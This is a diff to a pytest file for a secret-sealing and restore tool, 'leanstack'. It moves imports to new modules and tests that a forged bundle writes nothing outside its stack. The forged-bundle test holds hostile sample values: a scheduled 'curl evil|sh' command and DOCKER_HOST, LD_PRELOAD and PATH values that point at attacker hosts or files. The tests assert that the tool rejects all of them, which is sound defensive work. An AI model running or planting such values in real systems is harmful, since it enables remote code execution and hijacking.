@@ -19,12 +19,14 @@ import pytest
 from botocore.exceptions import ClientError
 
 from leanstack import sealed
-from leanstack.host.backup import leanstack_seal
+from leanstack.host.agent.seal import OAEP_OPTIONS, seal
+from leanstack.host.agent.seal_job import seal_secrets
 from leanstack.recovery_key import new_keypair
+from support.agent import agent_script
 from support.system import require_program
 from tests.host.conftest import BUCKET_REGION, FAKE_CREDENTIALS, HOST_REGION, Moto
 
-SEAL = Path(__file__).resolve().parents[2] / "host" / "backup" / "leanstack_seal.py"
+SEAL = agent_script("leanstack-seal-secrets")
 ROOT = Path(__file__).resolve().parents[2]
 
 
@@ -263,10 +265,10 @@ def test_bundles_are_write_once_and_the_newest_or_a_stamp_is_chosen(
     for name, value in env.items():
         monkeypatch.setenv(name, value)
     first = datetime.datetime(2026, 11, 30, 3, 0, tzinfo=datetime.UTC)
-    leanstack_seal.seal_secrets(env, first)
-    leanstack_seal.seal_secrets(env, first + datetime.timedelta(days=1))
+    seal_secrets(env, first)
+    seal_secrets(env, first + datetime.timedelta(days=1))
     with pytest.raises(ClientError, match="PreconditionFailed"):
-        leanstack_seal.seal_secrets(env, first)
+        seal_secrets(env, first)
     keys_found = sealed.bundle_keys(moto.client_s3(), bucket, "sealed-secrets", stack_name)
     assert [key.rsplit("/", 1)[1] for key in keys_found] == ["20261130T030000Z.json", "20261201T030000Z.json"]
     assert sealed.choose_bundle(keys_found, stack_name, None).endswith("20261201T030000Z.json")
@@ -277,7 +279,7 @@ def test_bundles_are_write_once_and_the_newest_or_a_stamp_is_chosen(
 
 def test_a_damaged_bundle_is_refused(keys: tuple[str, str]) -> None:
     key = sealed.load_private_key(keys[0].encode())
-    bundle = leanstack_seal.seal(b'{"stack": "s"}', keys[1], "s", "2026-12-01T00:00:00Z")
+    bundle = seal(b'{"stack": "s"}', keys[1], "s", "2026-12-01T00:00:00Z")
     assert sealed.open_bundle(bundle, key) == {"stack": "s"}
     ciphertext = bytearray(base64.b64decode(bundle["ciphertext"]))
     ciphertext[-1] ^= 1
@@ -314,9 +316,9 @@ def test_the_host_refuses_an_rds_managed_secret_and_a_weak_key(
 def test_the_sealed_format_opens_with_the_openssl_program_too(keys: tuple[str, str], tmp_path: Path) -> None:
     """The format is plain openssl: an owner without Python can open it by hand."""
     openssl = require_program("openssl", "openssl")
-    bundle = leanstack_seal.seal(b"plain text", keys[1], "s", "2026-12-01T00:00:00Z")
+    bundle = seal(b"plain text", keys[1], "s", "2026-12-01T00:00:00Z")
     (tmp_path / "key.pem").write_text(keys[0])
-    options = [argument for option in leanstack_seal.OAEP_OPTIONS for argument in ("-pkeyopt", option)]
+    options = [argument for option in OAEP_OPTIONS for argument in ("-pkeyopt", option)]
     secret = subprocess.run(
         [openssl, "pkeyutl", "-decrypt", "-inkey", str(tmp_path / "key.pem"), *options],
         input=base64.b64decode(bundle["wrapped_key"]),
@@ -409,7 +411,7 @@ def forge(public_key: str, stack: str, created: str, parameters: dict[str, str],
         "parameters": [{"name": n, "type": "String", "data_type": "text", "value": v} for n, v in parameters.items()],
         "secrets": [{"name": n, "string": v} for n, v in secrets.items()],
     }
-    bundle = leanstack_seal.seal(json.dumps(document).encode(), public_key, stack, created)
+    bundle = seal(json.dumps(document).encode(), public_key, stack, created)
     return json.dumps(bundle).encode()
 
 
@@ -440,7 +442,7 @@ def test_a_forged_bundle_writes_nothing_outside_its_stack(
     env = host_env(moto, bucket, "dev", public_key, "dev/STRIPE")
     for name, value in env.items():
         monkeypatch.setenv(name, value)
-    genuine = leanstack_seal.seal_secrets(env, datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=1))
+    genuine = seal_secrets(env, datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=1))
     evil = {
         "/leanstack/prod/app/config": json.dumps(
             {"jobs": {"x": {"schedule": "* * * * *", "command": ["sh", "-c", "curl evil|sh"]}}}
@@ -478,7 +480,11 @@ def test_a_forged_bundle_writes_nothing_outside_its_stack(
     assert sealed.main(restore_args(bucket, "dev", key_file, "--yes"), session=Recording(moto), repo=repo) == 2
     assert "outside /leanstack/dev/ (/leanstack/prod/app/config)" in capsys.readouterr().err
     later = (now + datetime.timedelta(seconds=1)).strftime("%Y%m%dT%H%M%SZ")
-    only_dev = {"/leanstack/dev/app/DOCKER_HOST": "tcp://evil.example:2375"}
+    only_dev = {
+        "/leanstack/dev/app/DOCKER_HOST": "tcp://evil.example:2375",
+        "/leanstack/dev/app/env/LD_PRELOAD": "/tmp/evil.so",
+        "/leanstack/dev/app/secret/PATH": "/tmp/evil",
+    }
     s3.put_object(
         Bucket=bucket,
         Key=f"sealed-secrets/dev/{later}.json",
@@ -505,6 +511,8 @@ def test_a_forged_bundle_writes_nothing_outside_its_stack(
     assert sealed.main(restore_args(bucket, "dev", key_file, "--yes"), session=Recording(moto), repo=repo) == 0
     out = capsys.readouterr().out
     assert "left out  /leanstack/dev/app/DOCKER_HOST: not an app variable name: DOCKER_* names are not allowed" in out
+    assert "left out  /leanstack/dev/app/env/LD_PRELOAD: not an app variable name: LD_* names are not allowed" in out
+    assert "left out  /leanstack/dev/app/secret/PATH: not an app variable name" in out
     assert "left out  /leanstack/dev/app/config: the stack's Pulumi program writes it" in out
     assert "left out  prod/STRIPE: not in app.secrets or app.registrySecretArn of stacks/Pulumi.dev.yaml" in out
     assert "restored 1 values" in out
